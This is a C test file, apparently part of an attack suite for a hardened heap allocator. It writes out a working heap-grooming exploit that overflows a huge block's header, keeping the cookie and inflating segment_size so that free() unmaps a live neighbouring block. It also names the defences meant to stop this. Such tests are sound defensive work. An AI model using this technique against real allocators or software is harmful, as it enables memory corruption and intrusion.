/* overflow_aligned_huge_header: linear overflow from a huge block into the
 * header of the over-aligned huge block mapped after it; free() then unmaps
 * a live neighbour.
 *
 * Bug modelled: an overflow of 16 bytes past the end of a huge block, its
 * first 8 bytes copied from an out-of-bounds read (the cookie is checked).
 *
 * Steps:
 *  1. B = aligned_alloc(4 MiB, 4 MiB) and a huge C until C's segment starts
 *     right where B's mapping ends.
 *  2. Huge blocks H of one segment until one ends at B's header.
 *  3. Overflow H: cookie unchanged, segment_size += 4 MiB.
 *  4. free(B).
 * WIN: the live block C is no longer mapped (msync reports ENOMEM).
 * Defence that should stop it: guard page / gap between mappings; size used
 * by munmap kept outside the writable header (segment map) or covered by a
 * MAC together with the cookie. */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */
#include <sys/mman.h>

int main(void) {
  start(10);
  char* probe = malloc(3 * MIB);
  size_t info = (uintptr_t)probe & (SEG - 1);
  free(hide(probe));

  char* b = NULL;
  char* c = NULL;
  for (int i = 0; i < 16 && c == NULL; i++) {
    char* bi = hide(aligned_alloc(SEG, SEG));
    char* ci = hide(malloc(SEG - info));
    if (bi == NULL || ci == NULL) break;
    if (((uintptr_t)ci & ~(SEG - 1)) == (uintptr_t)bi + malloc_usable_size(bi)) {
      b = bi;
      c = ci;
    }
  }
  if (c == NULL) lost("no huge block was mapped right after an aligned huge block");
  memset(c, 'C', 4096);
  uintptr_t s = (uintptr_t)b - SEG;
  char* h = NULL;
  for (int i = 0; i < 32 && h == NULL; i++) {
    char* hi = hide(malloc(SEG - info));
    if (hi == NULL) break;
    if ((uintptr_t)hi + malloc_usable_size(hi) == s) h = hi;
  }
  if (h == NULL) lost("no huge block ended right before the aligned block's header %p", (void*)s);
  note("huge %p ends at header %p of aligned block %p; neighbour %p", (void*)h, (void*)s, (void*)b, (void*)c);

  uintptr_t hdr[2];
  memcpy(hdr, (void*)s, sizeof hdr); /* out-of-bounds read: cookie, segment_size */
  hdr[1] += SEG;
  memcpy((void*)s, hdr, sizeof hdr); /* the overflow */
  void* freed = b;
  free(hide(b));
  if (msync(c, 4096, MS_ASYNC) != 0) win("free(%p) unmapped the live huge block %p", freed, (void*)c);
  lost("the neighbour %p is still mapped", (void*)c);
}
